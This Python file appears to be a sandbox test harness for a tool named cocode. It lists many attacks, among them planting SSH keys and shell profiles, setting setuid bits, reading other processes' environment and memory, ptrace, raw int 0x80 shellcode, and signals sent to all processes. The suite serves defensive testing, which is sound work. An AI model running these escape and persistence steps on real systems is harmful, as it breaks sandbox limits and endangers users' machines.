"""Attacks on the sandbox. `run PARAMS` attacks the process that `victim.py` starts outside, `table` lists the attacks.

Every attack gets the paths of a file and of a directory that are outside of all writable roots, and
returns whether it reached its goal. The victim finds out by itself what was changed, sent or signalled.
`control` names the identities (r: root, u: user) for which the attack has to succeed without a sandbox;
tag `net` marks attacks that are allowed with network, `ro` those that are forbidden in read-only only,
`info` those that are documented as not enforced, `x` those that are too dangerous without a sandbox.
"""
import array, ctypes, errno, fcntl, glob, json, mmap, os, platform, resource, select, shutil, signal
import socket, stat, struct, subprocess, sys, tempfile

MARK = b"S3CR3T-"
P, ATTACKS = {}, {}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = libc.shmat.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
X86 = platform.machine() == "x86_64"
RT = signal.SIGRTMIN
SIGNALS = {name: RT + 1 + at for at, name in enumerate(
    "kill kill_group tkill tgkill sigqueue pidfd_signal sigio_setown sigio_setown_ex sigio_fiosetown dnotify_signal".split())}
NEW = dict(user=0x10000000, mount=0x20000, net=0x40000000, pid=0x20000000, ipc=0x8000000, uts=0x4000000, cgroup=0x2000000, time=0x80)

def attack(tags="", control=""):
    def add(function, name=None):
        ATTACKS[name or function.__name__] = (tags.split(), control, function)
        return function
    return add

def add(name, tags, control, function):
    attack(tags, control)(function, name)

def sysc(number, *words):
    def word(value):
        return ctypes.c_long(value) if isinstance(value, int) else value
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *map(word, words))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def raw(number, *words):
    """A call by its number on x86-64; elsewhere there is nothing to attack with."""
    if not X86:
        raise OSError(errno.ENOSYS, "other processor")
    return sysc(number, *words)

def call(function, *words):
    ctypes.set_errno(0)
    result = getattr(libc, function)(*words)
    if result in (-1, None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def passes(function, *codes):
    """Whether the check of privileges was passed: done, or failed for one of these later reasons."""
    try:
        function()
        return True
    except OSError as error:
        return error.errno in codes

def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)

def write(path, text=b"attacked", flags=os.O_WRONLY, mode=0o644):
    fd = os.open(path, flags, mode)
    os.write(fd, text)
    os.close(fd)
    return True

def done(*_):
    return True

def secret(data):
    return MARK in data

def sh(command, **more):
    return subprocess.run(["sh", "-c", command], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, **more).stdout

def inside():
    """A place that can be written, if there is one."""
    for place in (P["work"], os.environ.get("TMPDIR", "/tmp")):
        try:
            return tempfile.mkdtemp(dir=place)
        except OSError:
            pass
    raise OSError(errno.EROFS, "no place")

def made(name, text="attacker"):
    path = os.path.join(inside(), name)
    with open(path, "w") as file:
        file.write(text)
    return path

def cocode():
    """The nearest ancestor that is cocode."""
    pid = os.getppid()
    while pid > 1:
        text = open(f"/proc/{pid}/stat").read()
        if text[text.index("(") + 1:text.rindex(")")].startswith("cocode"):
            return pid
        pid = int(text[text.rindex(")"):].split()[2])
    raise OSError(errno.ESRCH, "no cocode")

def reopened(fd, flags):
    return os.open(f"/proc/self/fd/{fd}", flags)

# Files outside of the writable roots.
CREATE = os.O_WRONLY | os.O_CREAT
add("write_file", "", "ru", lambda f, d: write(f))
add("append_file", "", "ru", lambda f, d: write(f, flags=os.O_WRONLY | os.O_APPEND))
add("create_file", "", "ru", lambda f, d: write(d + "/new", flags=CREATE | os.O_EXCL))
add("truncate_path", "", "ru", lambda f, d: done(os.truncate(f, 1)))
add("truncate_sparse", "", "ru", lambda f, d: done(os.truncate(f, 1 << 30), os.truncate(f, 3)))
add("truncate_on_open", "", "ru", lambda f, d: done(os.open(f, os.O_RDONLY | os.O_TRUNC)))
add("unlink_file", "", "ru", lambda f, d: done(os.unlink(f)))
add("remove_directory", "", "ru", lambda f, d: done(os.rmdir(d)))
add("make_directory", "", "ru", lambda f, d: done(os.mkdir(d + "/new")))
add("rename_within", "", "ru", lambda f, d: done(os.rename(f, d + "/moved")))
add("move_into_workspace", "", "ru", lambda f, d: done(os.rename(f, inside() + "/stolen")))
add("move_out_of_workspace", "", "ru", lambda f, d: done(os.rename(made("a"), d + "/planted")))
add("exchange_with_workspace", "", "ru", lambda f, d: done(raw(316, -100, made("a").encode(), -100, f.encode(), 2)))
add("exchange_directories", "", "ru", lambda f, d: done(raw(316, -100, inside().encode(), -100, d.encode(), 2)))
add("rename_whiteout", "", "r", lambda f, d: done(raw(316, -100, f.encode(), -100, (d + "/w").encode(), 4)))
add("make_symlink", "", "ru", lambda f, d: done(os.symlink("/etc", d + "/link")))
add("hard_link_out", "", "ru", lambda f, d: done(os.link(made("a"), d + "/planted")))
add("make_fifo", "", "ru", lambda f, d: done(os.mkfifo(d + "/fifo")))
add("write_fifo", "", "ru", lambda f, d: write(P["fifo"], b"write_fifo", os.O_WRONLY | os.O_NONBLOCK))
add("proc_self_root", "", "ru", lambda f, d: write("/proc/self/root" + f))
add("proc_victim_root", "", "ru", lambda f, d: write(f"/proc/{P['pid']}/root" + f))
add("proc_victim_cwd", "", "ru", lambda f, d: write(f"/proc/{P['pid']}/cwd/{os.path.basename(f)}"))
add("proc_victim_fd_write", "", "ru", lambda f, d: write(f"/proc/{P['pid']}/fd/{P['held']}"))
add("proc_cocode_root", "", "r", lambda f, d: write(f"/proc/{cocode()}/root" + f))
add("proc_thread_self_root", "", "ru", lambda f, d: write("/proc/thread-self/root" + f))
add("reopen_read_fd", "", "ru", lambda f, d: os.write(reopened(os.open(f, os.O_RDONLY), os.O_RDWR), b"x"))
add("reopen_path_fd", "", "ru", lambda f, d: os.write(reopened(os.open(f, os.O_PATH), os.O_RDWR), b"x"))
add("dirfd_create", "", "ru", lambda f, d: done(os.open("new", CREATE, dir_fd=os.open(d, os.O_PATH))))
add("openat2_create", "", "ru", lambda f, d: raw(437, -100, (d + "/n").encode(), ctypes.c_char_p(struct.pack("3Q", CREATE, 0o644, 0)), 24) > 0)
add("tmpfile_outside", "", "ru", lambda f, d: os.open(d, os.O_TMPFILE | os.O_RDWR) > 0)
add("lexical_dot_dot", "", "ru", lambda f, d: write(os.path.join(P["work"], "..", "outside", os.path.basename(f))))
add("chdir_then_relative", "", "ru", lambda f, d: done(os.chdir(d)) and write("new", flags=CREATE))
add("legacy_creat_call", "", "ru", lambda f, d: raw(85, (d + "/new").encode(), 0o644) > 0)
add("legacy_mknod_call", "", "ru", lambda f, d: done(raw(133, (d + "/new").encode(), 0o100644, 0)))
add("x32_creat", "", "", lambda f, d: raw(0x40000000 | 85, (d + "/new").encode(), 0o644) > 0)
add("io_uring", "", "ru", lambda f, d: raw(425, 4, ctypes.create_string_buffer(120)) > 0)
add("dev_shm_file", "", "ru", lambda f, d: done(os.close(os.open(f"/dev/shm/attack{os.getpid()}", CREATE)), os.unlink(f"/dev/shm/attack{os.getpid()}")))
add("slash_tmp_file", "", "ru", lambda f, d: done(os.close(os.open(f"/tmp/attack{os.getpid()}", CREATE)), os.unlink(f"/tmp/attack{os.getpid()}")))
add("etc_file", "", "r", lambda f, d: done(os.close(os.open("/etc/cocode-attack", CREATE)), os.unlink("/etc/cocode-attack")))
add("home_startup_file", "", "ru", lambda f, d: write(P["home"] + "/.profile", flags=CREATE))
add("ssh_authorized_keys", "", "ru", lambda f, d: write(P["home"] + "/.ssh/authorized_keys", flags=CREATE))
add("own_config_write", "", "ru", lambda f, d: write(P["config"] + "/attack.toml", flags=CREATE))
add("own_config_rename", "", "ru", lambda f, d: done(os.rename(P["config"], P["config"] + "x"), os.rename(P["config"] + "x", P["config"])))
add("own_state_write", "", "ru", lambda f, d: write(P["state"] + "/attack", flags=CREATE))
add("own_state_truncate", "", "ru", lambda f, d: done(os.truncate(P["state"] + "/truncated", 0)))
add("workspace_write", "ro", "ru", lambda f, d: write(P["work"] + "/written", flags=CREATE))
add("workspace_unlink", "ro", "ru", lambda f, d: done(os.unlink(P["work"] + "/removable")))
add("temporary_directory_write", "info", "ru", lambda f, d: (lambda path: done(write(path, flags=CREATE), os.unlink(path)))(os.environ.get("TMPDIR", "/tmp") + f"/attack{os.getpid()}"))
add("proc_sys_write", "", "r", lambda f, d: write("/proc/sys/kernel/core_pattern", read("/proc/sys/kernel/core_pattern")))
add("sysrq_open", "", "", lambda f, d: os.open("/proc/sysrq-trigger", os.O_WRONLY) > 0)
add("sysfs_write", "", "r", lambda f, d: os.open("/sys/kernel/mm/transparent_hugepage/enabled", os.O_WRONLY) > 0)
add("cgroup_directory", "", "", lambda f, d: done(os.mkdir("/sys/fs/cgroup/cocode-attack"), os.rmdir("/sys/fs/cgroup/cocode-attack")))

@attack("", "ru")
def hard_link_in(f, d):
    link = inside() + "/alias"
    os.link(f, link)
    return write(link)

@attack("", "ru")
def symlink_in_workspace(f, d):
    link = inside() + "/alias"
    os.symlink(f, link)
    return write(link)

@attack("", "ru")
def symlinked_directory(f, d):
    link = inside() + "/alias"
    os.symlink(d, link)
    return write(link + "/new", flags=CREATE)

@attack("", "ru")
def tmpfile_linked_out(f, d):
    fd = os.open(inside(), os.O_TMPFILE | os.O_RDWR)
    return done(call("linkat", -100, f"/proc/self/fd/{fd}".encode(), -100, (d + "/new").encode(), 0x400))

@attack("", "ru")
def moved_directory_handle(f, d):
    """A descriptor of a directory outside that is used after the own directory was moved."""
    place = inside()
    os.mkdir(place + "/a")
    os.chdir(place + "/a")
    return write("../" * 30 + f.lstrip("/"))

@attack("", "r")
def handle_open_write(f, d):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    raw(303, -100, f.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    fd = raw(304, os.open("/", os.O_RDONLY), handle, os.O_RDWR)
    return os.write(fd, b"x") == 1

def low_memory(text):
    base = libc.mmap(None, 4096, 7, 0x62, -1, 0)
    if base == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), "mmap")
    ctypes.memmove(base + 512, text, len(text))
    return base

def int80(number, data, *words):
    """A call of the 32-bit interface: `&` in the words is the address of the data."""
    if not X86:
        raise OSError(errno.ENOSYS, "other processor")
    base = low_memory(data)
    words = [base + 512 if word == "&" else word for word in words] + [0, 0, 0, 0]
    code = b"\x53" + b"".join(op + struct.pack("<I", value) for op, value in zip((b"\xb8", b"\xbb", b"\xb9", b"\xba", b"\xbe"), [number] + words))
    code += b"\xcd\x80\x5b\xc3"
    ctypes.memmove(base, code, len(code))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(base)()
    if result < 0:
        raise OSError(-result, "int 0x80")
    return result

add("int80_creat", "", "ru", lambda f, d: int80(8, (d + "/new").encode() + b"\0", "&", 0o644) > 0)
add("int80_chmod_setuid", "", "ru", lambda f, d: done(int80(15, f.encode() + b"\0", "&", 0o4755)))
add("int80_socketcall", "net", "ru", lambda f, d: int80(102, struct.pack("3I", 2, 1, 0), 1, "&") > 0)
add("int80_unshare", "", "ru", lambda f, d: done(int80(310, b"", NEW["user"])))

@attack("", "ru")
def memfd_execution(f, d):
    fd = os.memfd_create("program")
    os.write(fd, read(os.path.realpath("/usr/bin/touch")))
    if os.fork() == 0:
        os.execve(fd, ["touch", d + "/new"], {})
    os.wait()
    return os.path.exists(d + "/new")

@attack("", "")
def core_dump_outside(f, d):
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
    if os.fork() == 0:
        os.chdir(d)
        os.abort()
    os.wait()
    return bool(os.listdir(d))

# What the state directory holds.
STATE = "/attack-secret"
add("state_read", "", "ru", lambda f, d: secret(read(P["state"] + STATE)))
add("state_root_link", "", "ru", lambda f, d: secret(read("/proc/self/root" + P["state"] + STATE)))
add("state_cocode_root", "", "r", lambda f, d: secret(read(f"/proc/{cocode()}/root" + P["state"] + STATE)))
add("state_relative", "", "ru", lambda f, d: done(os.chdir(P["state"])) and secret(read("." + STATE)))
add("state_path_fd", "", "ru", lambda f, d: secret(os.read(reopened(os.open(P["state"] + STATE, os.O_PATH), 0), 99)))
add("state_dirfd", "", "ru", lambda f, d: secret(os.read(os.open("." + STATE, 0, dir_fd=os.open(P["state"], os.O_PATH)), 99)))
add("state_above_tmpdir", "", "", lambda f, d: secret(read(os.environ["TMPDIR"] + "/../../" + STATE)) or secret(read(os.environ["TMPDIR"] + "/.." + STATE)))
add("state_execution", "", "ru", lambda f, d: secret(sh(P["state"] + "/attack-program")))
add("state_source", "", "ru", lambda f, d: secret(sh(f". {P['state']}/attack-program")))
add("state_database", "", "ru", lambda f, d: read(P["state"] + "/conversations/conversations.db").startswith(b"SQLite"))
add("state_handle", "", "r", lambda f, d: secret(by_handle(P["state"] + STATE)))
add("state_lease", "", "ru", lambda f, d: done(fcntl.fcntl(os.open(P["state"] + STATE, 3), 1024, fcntl.F_RDLCK)))
add("state_disk", "", "", lambda f, d: bool(os.read(os.open(disk(), os.O_RDONLY), 512)))
add("cocode_descriptor", "", "", lambda f, d: any(descriptors_of(cocode())))

@attack("", "ru")
def state_hard_link(f, d):
    link = inside() + "/alias"
    os.link(P["state"] + STATE, link)
    return secret(read(link))

@attack("", "ru")
def state_move(f, d):
    link = inside() + "/moved"
    os.rename(P["state"] + "/movable", link)
    return secret(read(link))

@attack("", "ru")
def state_symlink(f, d):
    link = inside() + "/alias"
    os.symlink(P["state"], link)
    return secret(read(link + STATE))

@attack("", "")
def state_exchange_with_tmpdir(f, d):
    """Puts the place that may be written where a hidden directory was."""
    raw(316, -100, os.environ["TMPDIR"].encode(), -100, (P["state"] + "/hidden").encode(), 2)
    return secret(read(os.environ["TMPDIR"] + STATE))

@attack("", "")
def temporary_directory_of_others(f, d):
    """Files of other conversations beside the own temporary directory."""
    own = os.path.realpath(os.environ["TMPDIR"])
    return any(os.access(path, os.R_OK) and read(path) is not None for path in glob.glob(os.path.dirname(own) + "/*/*")
               if not path.startswith(own + "/") and os.path.isfile(path))

@attack("", "ru")
def state_preload(f, d):
    """The dynamic linker reads what LD_PRELOAD names."""
    result = subprocess.run(["/bin/true"], env={"LD_PRELOAD": P["state"] + STATE}, stderr=subprocess.PIPE)
    return b"invalid ELF" in result.stderr or b"too short" in result.stderr

def by_handle(path):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    raw(303, -100, path.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    return os.read(raw(304, os.open("/", os.O_RDONLY), handle, 0), 99)

def disk():
    number = os.stat("/").st_dev
    event = read(f"/sys/dev/block/{os.major(number)}:{os.minor(number)}/uevent").decode()
    return "/dev/" + event.split("DEVNAME=")[1].split()[0]

def descriptors_of(pid):
    for name in os.listdir(f"/proc/{pid}/fd"):
        if passes(lambda: os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)):
            yield name

# Set-user-ID and set-group-ID bits: of an own file, in every call that takes a mode.
def bits(path):
    return bool(os.stat(path).st_mode & 0o6000)

add("chmod_setuid", "", "ru", lambda f, d: done(os.chmod(f, 0o4755)) and bits(f))
add("chmod_setgid", "", "ru", lambda f, d: done(os.chmod(f, 0o2755)) and bits(f))
add("chmod_legacy_call", "", "ru", lambda f, d: done(raw(90, f.encode(), 0o6755)) and bits(f))
add("fchmod_setuid", "", "ru", lambda f, d: done(os.fchmod(os.open(f, 0), 0o4755)) and bits(f))
add("fchmodat2_setuid", "", "ru", lambda f, d: done(sysc(452, -100, f.encode(), 0o4755, 0)) and bits(f))
add("fchmodat_high_bits", "", "ru", lambda f, d: done(raw(268, -100, f.encode(), 0x7fff00000000 | 0o4755)) and bits(f))
add("proc_fd_chmod_setuid", "", "ru", lambda f, d: done(os.chmod(f"/proc/self/fd/{os.open(f, os.O_PATH)}", 0o4755)) and bits(f))
add("file_capabilities", "", "r", lambda f, d: done(os.setxattr(f, "security.capability", struct.pack("<5I", 0x2000001, 0x80, 0, 0, 0))))

def setuid_creation(name, make):
    def run(f, d):
        os.umask(0)
        path = inside() + "/new"
        make(path)
        return bits(path)
    add(name, "", "ru", run)

def linked_tmpfile(path):
    fd = os.open(os.path.dirname(path), os.O_TMPFILE | os.O_RDWR, 0o4755)
    call("linkat", -100, f"/proc/self/fd/{fd}".encode(), -100, path.encode(), 0x400)

HIGH = 1 << 32
add("chmod_wide_mode", "", "ru", lambda f, d: done(raw(90, f.encode(), 0x10000 | 0o4755)) and bits(f))
add("chmod_high_mode", "", "ru", lambda f, d: done(raw(90, f.encode(), HIGH | 0o4755)) and bits(f))
add("fchmod_wide_mode", "", "ru", lambda f, d: done(raw(91, os.open(f, 0), 0x7fff0000 | 0o2755)) and bits(f))
add("socket_high_family", "net", "ru", lambda f, d: raw(41, HIGH | 2, 1, 0) > 0)
add("socket_high_unix", "net", "ru", lambda f, d: raw(41, HIGH | 1, HIGH | 1, 0) > 0)
add("clone_high_flags", "", "ru", lambda f, d: done(raw(56, HIGH | NEW["user"] | signal.SIGCHLD, 0, 0, 0, 0) or os._exit(0)))
add("prlimit_high_pid", "", "ru", lambda f, d: done(raw(302, HIGH | P["pid"], 7, 0, ctypes.create_string_buffer(16))))
add("inode_flags", "info", "ru", lambda f, d: (lambda fd, old: done(fcntl.ioctl(fd, 0x40086602, struct.pack("l", old | 0x40))))(
    os.open(f, 0), struct.unpack("l", fcntl.ioctl(os.open(f, 0), 0x80086601, bytes(8)))[0]))
add("inode_immutable", "", "r", lambda f, d: done(fcntl.ioctl(os.open(f, 0), 0x40086602, struct.pack("l", 0x10)), fcntl.ioctl(os.open(f, 0), 0x40086602, bytes(8))))
add("file_system_freeze", "x", "", lambda f, d: done(fcntl.ioctl(os.open(d, 0), 0xC0045877, 0), fcntl.ioctl(os.open(d, 0), 0xC0045878, 0)))
add("ioprio_set_group", "", "ru", lambda f, d: done(raw(251, 2, P["pid"], 2 << 13 | 6)))
add("ioprio_set_user", "x", "", lambda f, d: done(raw(251, 3, os.getuid(), 2 << 13 | 5)))
add("kill_everything", "x", "", lambda f, d: os.kill(-1, signal.SIGWINCH))
for entry in ("task/{}/environ", "task/{}/maps", "smaps", "pagemap", "io", "fdinfo/0", "personality", "numa_maps", "task/{}/fd/0", "cwd/held", "exe"):
    add("victim_" + entry.replace("/{}", "").replace("/", "_"), "info" if entry == "exe" else "", "", lambda f, d, entry=entry: bool(read(f"/proc/{P['pid']}/{entry.format(P['pid'])}")))
setuid_creation("open_wide_mode", lambda path: raw(2, path.encode(), CREATE, 0x7fff0000 | 0o4755))
setuid_creation("mknod_wide_mode", lambda path: raw(133, path.encode(), HIGH | stat.S_IFREG | 0o4755, 0))
setuid_creation("open_mode_setuid", lambda path: os.open(path, CREATE, 0o4755))
setuid_creation("creat_mode_setuid", lambda path: raw(85, path.encode(), 0o4755))
setuid_creation("openat2_mode_setuid", lambda path: raw(437, -100, path.encode(), ctypes.c_char_p(struct.pack("3Q", CREATE, 0o4755, 0)), 24))
setuid_creation("mknod_mode_setuid", lambda path: os.mknod(path, stat.S_IFREG | 0o4755))
setuid_creation("mkdir_mode_setgid", lambda path: (os.mkdir(path, 0o755), os.chmod(path, 0o2755)))
setuid_creation("tmpfile_mode_setuid", linked_tmpfile)
setuid_creation("int80_open_mode_setuid", lambda path: int80(5, path.encode() + b"\0", "&", CREATE, 0o4755))

# Processes outside.
ENV = "environ"
add("victim_environ", "", "ru", lambda f, d: secret(read(f"/proc/{P['pid']}/environ")))
add("any_environ", "", "ru", lambda f, d: any(passes(lambda: read(path)) and secret(read(path)) for path in glob.glob("/proc/[0-9]*/environ")))
add("own_environ", "", "", lambda f, d: any(MARK.decode() in value for value in os.environ.values()))
add("victim_maps", "", "ru", lambda f, d: bool(read(f"/proc/{P['pid']}/maps")))
add("victim_auxv", "", "ru", lambda f, d: bool(read(f"/proc/{P['pid']}/auxv")))
add("victim_fd_list", "", "ru", lambda f, d: bool(os.readlink(f"/proc/{P['pid']}/fd/{P['held']}")))
add("victim_map_files", "", "ru", lambda f, d: bool(os.listdir(f"/proc/{P['pid']}/map_files")))
add("victim_syscall", "", "ru", lambda f, d: bool(read(f"/proc/{P['pid']}/syscall")))
add("victim_oom_score", "", "ru", lambda f, d: write(f"/proc/{P['pid']}/oom_score_adj", b"900"))
add("victim_coredump_filter", "", "ru", lambda f, d: write(f"/proc/{P['pid']}/coredump_filter", b"0x1"))
add("victim_clear_refs", "", "ru", lambda f, d: write(f"/proc/{P['pid']}/clear_refs", b"1"))
add("victim_timerslack", "", "r", lambda f, d: write(f"/proc/{P['pid']}/timerslack_ns", b"77777"))
add("victim_mem_read", "", "ru", lambda f, d: secret(os.pread(os.open(f"/proc/{P['pid']}/mem", 0), 64, P["address"])))
add("victim_mem_write", "", "ru", lambda f, d: os.pwrite(os.open(f"/proc/{P['pid']}/mem", os.O_RDWR), b"victim_mem_write", P["address"] + 64) > 0)
add("cocode_mem", "", "r", lambda f, d: os.open(f"/proc/{cocode()}/mem", 0) > 0)
add("kcmp", "", "ru", lambda f, d: raw(312, os.getpid(), P["pid"], 2, 0, 0) >= 0)
add("robust_list", "", "ru", lambda f, d: done(raw(274, P["pid"], ctypes.byref(ctypes.c_void_p()), ctypes.byref(ctypes.c_long()))))
add("perf_event", "", "r", lambda f, d: raw(298, ctypes.c_char_p(struct.pack("IIQ", 1, 128, 0) + bytes(112)), P["pid"], -1, -1, 0) > 0)
add("move_pages", "", "", lambda f, d: done(raw(279, P["pid"], 1, ctypes.byref(ctypes.c_void_p(P["address"] & ~4095)), 0, ctypes.byref(ctypes.c_int()), 0)))
add("prlimit", "", "ru", lambda f, d: done(resource.prlimit(P["pid"], resource.RLIMIT_CORE, (0, resource.prlimit(P["pid"], resource.RLIMIT_CORE)[1]))))
add("prlimit_read", "", "ru", lambda f, d: bool(resource.prlimit(P["pid"], resource.RLIMIT_NOFILE)))
add("setpriority_process", "", "ru", lambda f, d: done(os.setpriority(os.PRIO_PROCESS, P["pid"], os.getpriority(os.PRIO_PROCESS, P["pid"]) + 1)))
add("setpriority_group", "", "ru", lambda f, d: done(os.setpriority(os.PRIO_PGRP, P["pid"], os.getpriority(os.PRIO_PROCESS, P["pid"]) + 1)))
add("setpriority_user", "x", "", lambda f, d: done(os.setpriority(os.PRIO_USER, os.getuid(), 11)))
add("sched_setaffinity", "", "ru", lambda f, d: done(os.sched_setaffinity(P["pid"], os.sched_getaffinity(P["pid"]))))
add("sched_setscheduler", "", "ru", lambda f, d: done(os.sched_setscheduler(P["pid"], os.SCHED_BATCH, os.sched_param(0))))
add("sched_setparam", "", "ru", lambda f, d: done(os.sched_setparam(P["pid"], os.sched_param(0))))
add("sched_setattr", "", "ru", lambda f, d: done(raw(314, P["pid"], ctypes.c_char_p(struct.pack("IIQiI3Q", 48, 3, 0, 19, 0, 0, 0, 0)), 0)))
add("ioprio_set", "", "ru", lambda f, d: done(raw(251, 1, P["pid"], 2 << 13 | 7)))
add("kill", "", "ru", lambda f, d: done(os.kill(P["pid"], SIGNALS["kill"])))
add("kill_probe", "", "ru", lambda f, d: done(os.kill(P["pid"], 0)))
add("kill_cocode_probe", "", "ru", lambda f, d: done(os.kill(cocode(), 0)))
add("kill_group", "", "ru", lambda f, d: done(os.killpg(P["pid"], SIGNALS["kill_group"])))
add("tkill", "", "ru", lambda f, d: done(raw(200, P["pid"], SIGNALS["tkill"])))
add("tgkill", "", "ru", lambda f, d: done(raw(234, P["pid"], P["pid"], SIGNALS["tgkill"])))
add("sigqueue", "", "ru", lambda f, d: done(call("sigqueue", P["pid"], SIGNALS["sigqueue"], ctypes.c_void_p(7))))
add("pidfd_signal", "", "ru", lambda f, d: done(signal.pidfd_send_signal(os.pidfd_open(P["pid"]), SIGNALS["pidfd_signal"])))
add("pidfd_getfd", "", "ru", lambda f, d: sysc(438, os.pidfd_open(P["pid"]), P["held"], 0) > 0)
add("pidfd_of_cocode_getfd", "", "r", lambda f, d: sysc(438, os.pidfd_open(cocode()), 1, 0) > 0)
add("ptrace_attach", "", "ru", lambda f, d: done(raw(101, 16, P["pid"], 0, 0), os.waitpid(P["pid"], 0x40000000), raw(101, 17, P["pid"], 0, 0)))
add("ptrace_seize", "", "ru", lambda f, d: done(raw(101, 0x4206, P["pid"], 0, 0)))
add("ptrace_seize_cocode", "", "r", lambda f, d: done(raw(101, 0x4206, cocode(), 0, 0)))
add("process_madvise", "", "", lambda f, d: raw(440, os.pidfd_open(P["pid"]), ctypes.c_char_p(struct.pack("QQ", P["address"] & ~4095, 4096)), 1, 20, 0) >= 0)
add("setns_pidfd", "", "r", lambda f, d: done(sysc(308, os.pidfd_open(P["pid"]), NEW["uts"])))
add("setns_file", "", "r", lambda f, d: done(sysc(308, os.open(f"/proc/{P['pid']}/ns/uts", 0), 0)))

def vectors(number, at):
    buffer = ctypes.create_string_buffer(b"process_vm_writev", 32)
    local = struct.pack("QQ", ctypes.addressof(buffer), 17)
    remote = struct.pack("QQ", P["address"] + at, 17)
    raw(number, P["pid"], ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 1, 0)
    return buffer.raw

add("process_vm_readv", "", "ru", lambda f, d: secret(vectors(310, 0)))
add("process_vm_writev", "", "ru", lambda f, d: done(vectors(311, 96)))

def own_signal(name, setown):
    """The kernel signals the owner of a descriptor when there is input: only the victim can tell."""
    def run(f, d):
        reader, writer = os.pipe()
        fcntl.fcntl(reader, 10, SIGNALS[name])
        setown(reader)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
    add(name, "", "ru", run)

own_signal("sigio_setown", lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, P["pid"]))
own_signal("sigio_setown_ex", lambda fd: fcntl.fcntl(fd, 15, struct.pack("ii", 1, P["pid"])))
own_signal("sigio_fiosetown", lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, -P["pid"]))

@attack("", "ru")
def dnotify_signal(f, d):
    place = os.open(inside(), os.O_RDONLY)
    fcntl.fcntl(place, 10, SIGNALS["dnotify_signal"])
    fcntl.fcntl(place, fcntl.F_NOTIFY, fcntl.DN_CREATE)
    fcntl.fcntl(place, fcntl.F_SETOWN, P["pid"])
    os.close(os.open("new", CREATE, dir_fd=place))

# Sockets.
def unix(kind, address, name):
    with socket.socket(socket.AF_UNIX, kind) as end:
        end.connect(address)
        return end.send(name) > 0

def pair():
    return socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]

def tcp(family, host, port, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as end:
        end.settimeout(2)
        end.connect((host, port))
        return end.send(b"tcp") > 0

DGRAM, STREAM = socket.SOCK_DGRAM, socket.SOCK_STREAM
add("unix_stream", "net", "ru", lambda f, d: unix(STREAM, P["stream"], b"unix_stream"))
add("unix_datagram", "net", "ru", lambda f, d: unix(DGRAM, P["datagram"], b"unix_datagram"))
add("unix_seqpacket", "net", "ru", lambda f, d: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) and True)
add("abstract_stream", "", "ru", lambda f, d: unix(STREAM, "\0" + P["abstract"], b"abstract_stream"))
add("unix_bind_outside", "net", "ru", lambda f, d: done(socket.socket(socket.AF_UNIX).bind(d + "/socket")))
add("pair_sendto", "net", "ru", lambda f, d: pair().sendto(b"pair_sendto", P["datagram"]) > 0)
add("pair_sendto_abstract", "", "ru", lambda f, d: pair().sendto(b"pair_sendto_abstract", "\0" + P["abstract"] + "d") > 0)
add("pair_reconnect", "net", "ru", lambda f, d: (lambda end: done(end.connect(P["datagram"])) and end.send(b"pair_reconnect"))(pair()))
add("pair_sendmsg_rights", "net", "ru", lambda f, d: pair().sendmsg([b"pair_sendmsg_rights"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))], 0, P["datagram"]) > 0)
add("pair_bind_outside", "", "ru", lambda f, d: done(pair().bind(d + "/socket")))
add("pair_bind_abstract", "net", "ru", lambda f, d: done(pair().bind("\0attack%d" % os.getpid())))
add("tcp_connect", "net", "ru", lambda f, d: tcp(socket.AF_INET, "127.0.0.1", P["tcp"]))
add("tcp_mapped_v6", "net", "ru", lambda f, d: tcp(socket.AF_INET6, "::ffff:127.0.0.1", P["tcp"]))
add("mptcp_connect", "net", "", lambda f, d: tcp(socket.AF_INET, "127.0.0.1", P["tcp"], 262))
add("smc_connect", "net", "", lambda f, d: socket.socket(43, STREAM, 0) and True)
add("tcp_fast_open", "net", "", lambda f, d: socket.socket().sendto(b"fast", 0x20000000, ("127.0.0.1", P["tcp"])) > 0)
add("tcp_listen", "net", "ru", lambda f, d: done((lambda end: (end.bind(("127.0.0.1", 0)), end.listen()))(socket.socket())))
add("tcp_listen_unbound", "net", "ru", lambda f, d: done(socket.socket().listen()))
add("udp_send", "net", "ru", lambda f, d: socket.socket(type=DGRAM).sendto(b"udp_send", ("127.0.0.1", P["udp"])) > 0)
add("udp_v6_send", "net", "ru", lambda f, d: socket.socket(socket.AF_INET6, DGRAM).sendto(b"udp_v6_send", ("::ffff:127.0.0.1", P["udp"])) > 0)
add("bash_dev_tcp", "net", "ru", lambda f, d: b"OPEN" in subprocess.run(["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{P['tcp']} && echo OPEN"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout)
add("netlink_route", "net", "ru", lambda f, d: done(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)))
add("socket_raw", "", "r", lambda f, d: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) and True)
